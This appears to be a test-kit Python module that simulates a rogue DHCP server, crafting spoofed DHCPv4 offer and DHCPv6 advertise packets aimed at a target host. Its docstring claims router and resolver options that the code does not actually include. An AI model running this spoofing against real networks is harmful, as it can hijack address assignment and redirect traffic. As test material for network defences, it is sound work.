# SPDX-License-Identifier: Apache-2.0
"""A DHCP server of the intruder's hands out addresses, routers and resolvers."""
from kit import *


def attack(pot, out, family):
    for n in range(30):
        if family == 4:
            body = b"\2\1\6\0" + struct.pack(">I", n) + b"\0" * 8 + packed("10.66.0.77") + packed(pot.ip(4)) + \
                b"\0" * 212 + b"\x63\x82\x53\x63\x35\1\2\x36\4" + packed(pot.ip(4)) + b"\xff"
            for dst, mac in (("255.255.255.255", BROADCAST), (out.ip(4), out.mac)):
                pot.send(ethernet(mac, pot.mac, udp(pot.ip(4), 67, dst, 68, body)))
        else:
            body = b"\2\0\0" + bytes([n]) + b"\0\1\0\x0a" + b"\0\3\0\1" + pot.mac
            for src in (pot.ip(6), pot.link_local()):
                pot.send(pot.frame(udp(src, 547, out.ip(6), 546, body)))
